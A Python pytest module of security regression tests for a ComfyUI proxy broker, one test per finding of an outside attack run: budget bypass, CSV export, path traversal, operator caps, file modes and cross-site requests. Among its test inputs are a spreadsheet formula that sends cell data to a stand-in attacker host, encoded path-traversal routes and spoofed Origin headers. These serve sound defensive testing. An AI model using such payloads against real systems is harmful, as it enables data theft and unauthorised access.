"""What the outside attack run found (issue 15), one API-level test per finding: each
failed on the code before its fix. Served-process findings (slow clients, forwarded
headers) are in test_served.py."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import json
import logging
import os
import stat
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from alembic import command

from broker.app import create_app
from broker.db.migrations import alembic_config
from broker.settings import ConfigurationError, Environment, Settings
from tests.fixtures.app import KEK_1, OPERATOR, AdminApi, AppFactory, User, comfy_key
from tests.fixtures.comfy import FakeComfyUI
from tests.proxy.workflows import LOCAL_WORKFLOW
from tests.security.helpers import websocket_handshake

# An API node whose price is its `n` widget in USD (1..100), fed by a PrimitiveInt.
PER_IMAGE = "PerImageApiNode"


def _add_per_image_node(fake: FakeComfyUI) -> None:
    hidden = fake.object_info["OpenAIDalle3"]["input"]["hidden"]
    fake.object_info[PER_IMAGE] = {
        **fake.object_info["OpenAIDalle3"],
        "name": PER_IMAGE,
        "input": {
            "required": {"n": ["INT", {"default": 1, "min": 1, "max": 100}]},
            "hidden": hidden,
        },
        "input_order": {"required": ["n"], "hidden": list(hidden)},
        "price_badge": {
            "engine": "jsonata",
            "depends_on": {"widgets": [{"name": "n", "type": "INT"}], "inputs": []},
            "expr": '{"type": "usd", "usd": widgets.n}',
        },
    }
    fake.object_info["PrimitiveInt"] = {
        **fake.object_info["EmptyLatentImage"],
        "name": "PrimitiveInt",
        "input": {"required": {"value": ["INT", {"default": 0}]}},
        "input_order": {"required": ["value"]},
        "output": ["INT"],
        "output_is_list": [False],
        "output_name": ["INT"],
    }


def per_image(n: object) -> dict[str, Any]:
    save = {"class_type": "SaveImage", "inputs": {"images": ["1", 0], "filename_prefix": "p"}}
    workflow: dict[str, Any] = {"1": {"class_type": PER_IMAGE, "inputs": {"n": n}}, "2": save}
    if isinstance(n, list):
        workflow["3"] = {"class_type": "PrimitiveInt", "inputs": {"value": 100}}
    return {"prompt": workflow}


@pytest.fixture
async def alice(admin_api: AdminApi) -> User:
    return await admin_api.user(await admin_api.tenant("acme"), "alice", comfy_key())


async def operator_sets(client: httpx.AsyncClient, path: str, body: dict[str, Any]) -> None:
    method = client.put if path.endswith("budget") else client.patch
    response = await method(path, json=body, headers=OPERATOR)
    assert response.status_code == 200, response.text


# ----------------------------------------------------------- 1. budget bypass by widgets


async def test_widget_values_cannot_slip_a_priced_node_past_a_budget(
    client: httpx.AsyncClient, alice: User, fake_comfy: FakeComfyUI
) -> None:
    _add_per_image_node(fake_comfy)
    user_budget = f"/admin/tenants/{alice.tenant.id}/users/{alice.id}/budget"
    response = await client.put(
        user_budget, json={"period": "month", "limit_credits": "300"}, headers=alice.tenant.admin
    )
    assert response.status_code == 200, response.text
    # 100 USD = 21,100 credits, as a string ComfyUI reads as 100, or through a link.
    for n in ("100", " 100", 100.0, ["3", 0]):
        response = await client.post("/prompt", json=per_image(n), headers=alice.auth)
        assert response.status_code == 402, (n, response.text)
    # A value ComfyUI would refuse has no price: under a budget it is refused.
    for n in ("lots", 1e30, -5, "1e400"):
        response = await client.post("/prompt", json=per_image(n), headers=alice.auth)
        assert response.status_code == 400, (n, response.text)
        assert response.json()["error"]["type"] == "unpriced_nodes"
    # One image (211 credits) fits.
    assert (
        await client.post("/prompt", json=per_image("1"), headers=alice.auth)
    ).status_code == 200
    assert fake_comfy.prompts_received()
    assert len(fake_comfy.prompts_received()) == 1


async def test_unpriced_nodes_under_a_budget_need_the_tenants_opt_in(
    client: httpx.AsyncClient, alice: User, fake_comfy: FakeComfyUI
) -> None:
    del fake_comfy.object_info["OpenAIDalle3"]["price_badge"]
    dalle = {"prompt": "x", "seed": 1, "quality": "hd", "style": "vivid", "size": "1024x1024"}
    save = {"class_type": "SaveImage", "inputs": {"images": ["1", 0], "filename_prefix": "d"}}
    body = {"prompt": {"1": {"class_type": "OpenAIDalle3", "inputs": dalle}, "2": save}}
    tenant = f"/admin/tenants/{alice.tenant.id}"
    # No budget: allowed (and flagged), as before.
    assert (await client.post("/prompt", json=body, headers=alice.auth)).status_code == 200
    await operator_sets(client, f"{tenant}/budget", {"period": "month", "limit_credits": "300"})
    refused = await client.post("/prompt", json=body, headers=alice.auth)
    assert refused.status_code == 400, refused.text
    assert refused.json()["error"]["type"] == "unpriced_nodes"
    await operator_sets(client, f"{tenant}/limits", {"unpriced_policy": "allow_always"})
    assert (await client.post("/prompt", json=body, headers=alice.auth)).status_code == 200


async def test_extreme_widget_values_are_never_a_5xx(
    client: httpx.AsyncClient, alice: User, fake_comfy: FakeComfyUI
) -> None:
    _add_per_image_node(fake_comfy)
    fake_comfy.object_info[PER_IMAGE]["input"]["required"]["n"] = ["INT", {"default": 1}]
    for n in (10**30, 1e30, -5, -(10**30), "9" * 5000):
        response = await client.post("/prompt", json=per_image(n), headers=alice.auth)
        assert response.status_code < 500, (str(n)[:20], response.text)


# ---------------------------------------------------------------- 5. formulas in CSV


async def test_csv_exports_defuse_formulas(
    client: httpx.AsyncClient, alice: User, fake_comfy: FakeComfyUI
) -> None:
    node_id = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    del fake_comfy.object_info["OpenAIDalle3"]["price_badge"]  # its id is listed as unpriced
    dalle = {"prompt": "x", "seed": 1, "quality": "hd", "style": "vivid", "size": "1024x1024"}
    save = {"class_type": "SaveImage", "inputs": {"images": [node_id, 0], "filename_prefix": "d"}}
    body = {"prompt": {node_id: {"class_type": "OpenAIDalle3", "inputs": dalle}, "2": save}}
    assert (await client.post("/prompt", json=body, headers=alice.auth)).status_code == 200
    for path in ("prompts", "usage?group_by=node"):
        response = await client.get(
            f"/admin/tenants/{alice.tenant.id}/{path}",
            headers={**alice.tenant.admin, "Accept": "text/csv"},
        )
        assert response.status_code == 200
        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], cells
    prompts = await client.get(
        f"/admin/tenants/{alice.tenant.id}/prompts",
        headers={**alice.tenant.admin, "Accept": "text/csv"},
    )
    assert "'" + node_id in next(csv.DictReader(io.StringIO(prompts.text)))["unpriced_nodes"]


# ------------------------------------------------------------------ 6. 5xx from input


@pytest.mark.parametrize(
    "moment",
    [
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-14:00",
        "0001-01-01T00:00:00",
        "9999-12-31T23:59:59",
    ],
)
async def test_extreme_dates_on_admin_reports_are_4xx(
    client: httpx.AsyncClient, alice: User, moment: str
) -> None:
    base = f"/admin/tenants/{alice.tenant.id}"
    for path in ("usage", "prompts"):
        for name in ("from", "to"):
            response = await client.get(
                f"{base}/{path}", params={name: moment}, headers=alice.tenant.admin
            )
            assert response.status_code in (200, 422), (path, name, response.text)
            if response.status_code == 422:
                assert name in response.json()["error"]["message"]


# ------------------------------------------------ 11. the operator's caps stay the operator's


async def test_tenant_admins_cannot_lift_the_operators_caps(
    client: httpx.AsyncClient, alice: User
) -> None:
    tenant, admin = f"/admin/tenants/{alice.tenant.id}", alice.tenant.admin
    await operator_sets(client, f"{tenant}/budget", {"period": "month", "limit_credits": "100"})
    await operator_sets(client, f"{tenant}/limits", {"max_prompts_per_minute": 5})
    raise_it = {"period": "month", "limit_credits": "1000000"}
    assert (await client.put(f"{tenant}/budget", json=raise_it, headers=admin)).status_code == 403
    assert (await client.delete(f"{tenant}/budget", headers=admin)).status_code == 403
    lifted = {"max_prompts_per_minute": 1000}
    assert (await client.patch(f"{tenant}/limits", json=lifted, headers=admin)).status_code == 403
    # Users' budgets and limits: the tenant admin's, within the tenant's.
    user = f"{tenant}/users/{alice.id}"
    over = await client.put(f"{user}/budget", json=raise_it, headers=admin)
    assert over.status_code == 403
    assert over.json()["error"]["type"] == "over_tenant_cap"
    within = {"period": "day", "limit_credits": "10"}
    assert (await client.put(f"{user}/budget", json=within, headers=admin)).status_code == 200
    assert (await client.patch(f"{user}/limits", json=lifted, headers=admin)).status_code == 403
    cleared = {"max_prompts_per_minute": None}
    assert (await client.patch(f"{user}/limits", json=cleared, headers=admin)).status_code == 403
    tighter = {"max_prompts_per_minute": 2}
    assert (await client.patch(f"{user}/limits", json=tighter, headers=admin)).status_code == 200
    # What the operator set still holds.
    budget = (await client.get(f"{tenant}/budget", headers=admin)).json()
    assert budget["limit_credits"] == "100.000"


# ------------------------------------------------------------- 8. /internal/..%2F…


async def test_the_operator_relay_reaches_only_allow_listed_comfyui_routes(
    client: httpx.AsyncClient, fake_comfy: FakeComfyUI
) -> None:
    body = {"prompt": {"1": {"class_type": "LoadImage", "inputs": {"image": "example.png"}}}}
    for method, path in [
        ("POST", "/internal/..%2Fprompt"),
        ("POST", "/api/internal/..%2F..%2Fprompt"),
        ("POST", "/internal/logs/..%2F..%2Fprompt"),
        ("GET", "/internal/..%2Fhistory"),
        ("GET", "/internal/%2E%2E/queue"),
        ("POST", "/internal/logs"),
    ]:
        response = await client.request(method, path, json=body, headers=OPERATOR)
        assert response.status_code == 404, (method, path, response.text)
    assert [r.path for r in fake_comfy.received if r.method == "POST"] == []
    assert [r.path for r in fake_comfy.received if r.path.startswith("/history")] == []


# ---------------------------------------------------------------------- 10. file modes


def _keyring_file(path: Path, mode: int) -> Path:
    path.write_text(json.dumps({"primary": "k1", "keys": {"k1": KEK_1}}))
    path.chmod(mode)
    return path


async def test_a_readable_keyring_file_is_refused_in_production(
    tmp_path: Path, settings: Settings, caplog: pytest.LogCaptureFixture
) -> None:
    keyring = _keyring_file(tmp_path / "keyring.json", 0o644)
    production = settings.model_copy(
        update={"ENV": Environment.PRODUCTION, "KEYRING": None, "KEYRING_FILE": keyring}
    )
    with pytest.raises(ConfigurationError, match="chmod 600"):
        create_app(production)
    with caplog.at_level(logging.WARNING, logger="broker.files"):
        create_app(production.model_copy(update={"ENV": Environment.DEV}))
    assert "readable by group or others" in caplog.text
    keyring.chmod(0o600)
    create_app(production)


async def test_a_new_sqlite_database_is_created_private(
    tmp_path: Path, settings: Settings, app_factory: AppFactory
) -> None:
    (tmp_path / "new").mkdir()
    url = f"sqlite+aiosqlite:///{tmp_path / 'new' / 'broker.db'}"
    config = alembic_config(url)
    config.attributes["configure_logging"] = False
    previous = os.umask(0o022)
    try:
        await asyncio.to_thread(command.upgrade, config, "head")
        app = await app_factory(settings.model_copy(update={"DATABASE_URL": url}))
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://broker.test") as c:
            assert (await c.post("/admin/tenants", json={"name": "t"}, headers=OPERATOR)).is_success
    finally:
        os.umask(previous)
    files = sorted((tmp_path / "new").iterdir())
    assert files
    assert {f.name: oct(stat.S_IMODE(f.stat().st_mode)) for f in files} == {
        f.name: "0o600" for f in files
    }


# ------------------------------------------------------------ 2. cross-site requests


def basic(user: User) -> dict[str, str]:
    """What a browser replays by itself once a user has logged in with Basic auth."""
    return {"Authorization": "Basic " + base64.b64encode(f"u:{user.token}".encode()).decode()}


async def test_other_web_sites_cannot_use_a_browsers_credentials(
    app_factory: AppFactory, settings: Settings, fake_comfy: FakeComfyUI
) -> None:
    app = await app_factory(settings.model_copy(update={"ALLOWED_ORIGINS": "https://app.example"}))
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://broker.test") as client:
        alice = await AdminApi(client).user(await AdminApi(client).tenant("acme"), "alice")
        form = orjson.dumps({"prompt": LOCAL_WORKFLOW})  # a cross-site form posts this
        evil = {**basic(alice), "Origin": "https://evil.example", "Content-Type": "text/plain"}
        for origin in ("https://evil.example", "null", "http://broker.test.evil.example"):
            headers = {**evil, "Origin": origin}
            refused = await client.post("/prompt", content=form, headers=headers)
            assert refused.status_code == 403, (origin, refused.text)
            assert refused.json()["error"]["type"] == "origin_not_allowed"
        # A browser that withholds Origin still says the request is cross-site: with Basic
        # credentials it needs a JSON body. A script (no fetch metadata) is not a browser.
        plain = {**basic(alice), "Content-Type": "text/plain", "Sec-Fetch-Site": "cross-site"}
        assert (await client.post("/prompt", content=form, headers=plain)).status_code == 415
        assert fake_comfy.prompts_received() == []
        # The broker's own pages, allowed origins, and clients that send no Origin work.
        json_type = {"Content-Type": "application/json"}
        for headers in (
            {**basic(alice), **json_type, "Origin": "http://broker.test"},
            {**basic(alice), **json_type, "Origin": "https://app.example"},
            {**basic(alice), **json_type},
            {**alice.auth, "Content-Type": "application/x-www-form-urlencoded"},  # urllib
        ):
            response = await client.post("/prompt", content=form, headers=headers)
            assert response.status_code == 200, (headers, response.text)
        # Websockets: another site may not read the user's events.
        params = {"clientId": "c1"}
        for origin, code in [("https://evil.example", 1008), ("http://broker.test", 101),
                             ("https://app.example", 101)]:  # fmt: skip
            got = await websocket_handshake(app, "/ws", {**basic(alice), "Origin": origin}, params)
            assert got == code, origin
